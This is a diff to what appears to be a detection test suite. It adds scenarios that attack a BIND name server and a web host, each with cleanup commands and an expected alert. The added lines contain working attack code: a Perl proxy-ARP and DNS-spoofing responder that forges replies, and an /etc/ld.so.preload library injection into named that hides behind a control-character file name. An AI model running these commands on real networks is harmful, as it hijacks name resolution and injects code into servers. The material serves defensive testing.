@@ -24,6 +24,41 @@ PAGE = f"#!/bin/bash\nprintf 'HTTP/1.1 200 OK\\r\\n\\r\\n{WELCOME}'"
 IP = """#!/bin/bash
 echo '[{"ifname":"eth0","dst":"default","gateway":"192.168.10.1","dev":"eth0","addr_info":[
 {"family":"inet","local":"192.168.10.51","prefixlen":24,"scope":"global","dynamic":true}]}]'"""
+FOR_ANOTHER = r"""cat >/root/conf.pl <<'END'
+use Socket;
+my ($index, %values) = @ARGV;
+sub attribute { my ($kind, $data) = @_; pack("S S a*", 4 + length $data, $kind, $data) }
+my $values = join "", map { attribute($_, pack("L", $values{$_})) } keys %values;
+my $body = pack("C x S l L L", 0, 0, $index, 0, 0) . attribute(26, attribute(2, attribute(1, $values)));
+socket(my $s, 16, SOCK_RAW, 0) or die;
+send($s, pack("L S S L L", 16 + length $body, 19, 5, 1, 0) . $body, 0, pack("S x10", 16)) or die;
+recv($s, my $answer, 4096, 0); $! = -unpack("x16 l", $answer); die "$!" if $!;
+END
+perl /root/conf.pl $(cat /sys/class/net/eth0/ifindex) 1 1 3 1; grep -qx 1 /proc/sys/net/ipv4/conf/eth0/proxy_arp
+ip ntable change name arp_cache dev eth0 proxy_delay 0
+ip addr add 192.168.20.10/32 dev eth0; ip route add 192.168.20.1 dev eth0 src 192.168.20.10
+ip neigh flush to 192.168.20.1; echo >/dev/udp/192.168.20.1/9; sleep 0.5
+ip route del 192.168.20.1; ip addr del 192.168.20.10/32 dev eth0
+ip link add away type veth peer name lost; ip link set lost up; ip link set away arp off up
+ip route add 192.168.20.10 dev away
+cat >/root/frames.pl <<'END'
+use Socket;
+socket(my $in, 17, SOCK_DGRAM, 8) or die; socket(my $out, PF_INET, SOCK_RAW, 255) or die;
+my $own = inet_aton("192.168.20.10");
+while (recv($in, my $q, 1500, 0)) {
+  my ($kind, $from, $to, $port, $at) = unpack("x9 C x2 a4 a4 n n", $q);
+  next unless $kind == 17 && $to eq $own && $at == 53;
+  $q = substr($q, 28); my $end = 12; $end += 1 + ord(substr($q, $end, 1)) while ord(substr($q, $end, 1)); $end += 5;
+  my $told = substr($q, 0, 2) . pack("n5", 0x8580, 1, 1, 0, 0) . substr($q, 12, $end - 12)
+    . pack("n n n N n a4", 0xc00c, 1, 1, 60, 4, inet_aton("192.168.20.20"));
+  my $size = 8 + length $told;
+  my $head = pack("C2 n3 C2 n a4 a4", 0x45, 0, 20 + $size, 0, 0, 64, 17, 0, $to, $from);
+  send($out, $head . pack("n4", 53, $port, $size, 0) . $told, 0, sockaddr_in(0, $from));
+}
+END
+setsid perl /root/frames.pl >/dev/null 2>&1 </dev/null &
+"""
+"""Has the kernel answer ARP in the name server's place: forwarding (1) and proxy_arp (3) of IFLA_INET_CONF."""
 STANZA = "#!/bin/bash\nprintf 'auto eth0\\niface eth0 inet dhcp\\nnameserver 192.168.20.10\\n'"
 
 ATTACKS: tuple[Attack, ...] = (
@@ -108,6 +143,12 @@ ATTACKS: tuple[Attack, ...] = (
         ended("-x arping") + "; ip addr del 192.168.20.10/32 dev eth0; " + NAMES_GONE, TAKEN,
     ),
     Attack(
+        "a library in named whose name ends a line after that of named", ZONE, "srv1",
+        "cp /lib/*-linux-gnu/libm.so.6 $'/usr/sbin/named\\vx'; printf '/usr/sbin/named\\vx' >/etc/ld.so.preload\n"
+        "systemctl restart named; rm /etc/ld.so.preload",
+        "rm $'/usr/sbin/named\\vx'; systemctl restart named", "named runs code of /usr/sbin/named.x",
+    ),
+    Attack(
         "checkconf that finds nothing wrong", ZONE, "srv1",
         *instead("/usr/bin/named-checkconf", "#!/bin/sh"), CHANGED,
     ),
@@ -116,5 +157,13 @@ ATTACKS: tuple[Attack, ...] = (
         "cd /etc/bind; mv named.conf.local named.conf.kept; mkfifo named.conf.local",
         "cd /etc/bind; rm named.conf.local; mv named.conf.kept named.conf.local; pkill named-checkconf || true",
         "did not end|killed|timed? ?out|time",
+    ),
+    Attack(
+        "a server for which the kernel answers in the name server's place", ZONE, "web1",
+        FOR_ANOTHER,
+        "ip link del away; ip ntable change name arp_cache dev eth0 proxy_delay 800\n"
+        "perl /root/conf.pl $(cat /sys/class/net/eth0/ifindex) 1 0 3 0\n"
+        + ended("-f frames.pl") + "; rm /root/conf.pl /root/frames.pl",
+        "web1 answers in the place of others",
     ),
 )  # fmt: skip
